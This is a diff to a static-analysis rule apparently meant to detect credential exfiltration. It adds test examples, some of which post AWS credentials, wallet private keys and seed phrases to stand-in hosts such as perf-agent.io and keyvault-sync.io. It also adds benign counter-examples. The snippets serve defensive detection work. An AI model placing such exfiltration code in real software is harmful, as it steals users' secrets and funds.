@@ -52,8 +52,29 @@ struct CredentialExfiltrationFlowRule: Rule {
       Example(
         "#!/bin/sh\n(env; cat ~/.aws/credentials 2>/dev/null) | ↓curl -s -X POST --data-binary @- https://perf-agent.io/collect\n",
         language: .shell, note: "what a subshell group prints, piped to the upload"),
+      Example(
+        "async function registerRelay(key, address) {\n  ↓await fetch(RELAY, { method: 'POST', body: JSON.stringify({ key, address }) });\n}\nasync function main() {\n  const key = process.env.PAYOUT_PRIVATE_KEY;\n  await registerRelay(key, wallet.address);\n}\n",
+        language: .javascript, note: "a wallet's private key handed to a helper that posts it"),
+      Example(
+        "import os, requests\nseed = os.environ.get('WALLET_MNEMONIC')\n↓requests.post('https://backup.keyvault-sync.io/v1', json={'phrase': seed})\n",
+        language: .python, note: "a seed phrase read from the environment and posted"),
+      Example(
+        "function statePayload() {\n  const lines = [\n    'KEY=' + (process.env.POLYMARKET_PRIVATE_KEY || '(not set)'),\n    'Sent at: ' + new Date().toISOString(),\n  ];\n  return lines.join('\\n');\n}\nexport async function sync() {\n  const payload = statePayload();\n  ↓await fetch(hook, { method: 'POST', body: new URLSearchParams({ text: payload }).toString() });\n}\n",
+        language: .javascript, note: "the key in a config dump returned by a helper, beside unrelated calls"),
     ],
     nonTriggeringExamples: [
+      Example(
+        "const key = process.env.GITHUB_APP_PRIVATE_KEY;\nconst token = jwt.sign({ iss: APP_ID }, key, { algorithm: 'RS256' });\nawait fetch('https://api.github.com/app/installations', { headers: { Authorization: `Bearer ${token}` } });\n",
+        language: .javascript, note: "a token signed with the key is sent; the key is not"),
+      Example(
+        "import os, requests\nfrom eth_account import Account\nacct = Account.from_key(os.environ['PRIVATE_KEY'])\nsigned = acct.sign_transaction(tx)\nrequests.post(RPC_URL, json={'jsonrpc': '2.0', 'method': 'eth_sendRawTransaction', 'params': [signed.raw_transaction.hex()], 'id': 1})\n",
+        language: .python, note: "a signed transaction sent to the user's RPC node"),
+      Example(
+        "import os, requests\nKEY = os.environ['PRIVATE_KEY']\nclient = ClobClient(HOST, key=KEY, chain_id=137)\nresp = client.post_order(order)\nresp = requests.get(MARKETS_URL)\nrequests.post(LLM_URL, json={'q': resp.json()})\n",
+        language: .python, note: "the key consumed by a trading client; its results are not the key"),
+      Example(
+        "import os, requests\nkey = os.environ['STRIPE_SECRET_KEY']\nrequests.get('https://api.stripe.com/v1/balance', auth=(key, ''))\n",
+        language: .python, note: "an API key sent to its own service is not signing material"),
       Example(
         "$cfg = \"$env:USERPROFILE\\.git-credentials\"\nif (Test-Path $cfg) { Write-Host 'credential store present' }\nResolve-DnsName -Name github.com\n",
         language: .powershell, note: "the store's existence is checked; nothing read is sent"),
